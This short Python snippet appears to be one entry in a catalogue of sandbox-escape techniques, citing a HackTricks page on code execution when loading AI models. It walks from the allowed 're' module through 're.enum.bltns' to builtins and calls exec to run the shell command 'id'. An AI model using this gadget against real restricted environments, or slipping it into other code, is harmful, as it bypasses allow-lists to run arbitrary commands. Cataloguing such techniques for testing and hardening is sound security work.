# Source: HackTricks AI model RCE page (enum.bltns.eval)
# Family: module-attribute
# What: re.enum.bltns: two hops from an allowed module to builtins
import re

re.enum.bltns.exec("import os; os.system('id')")
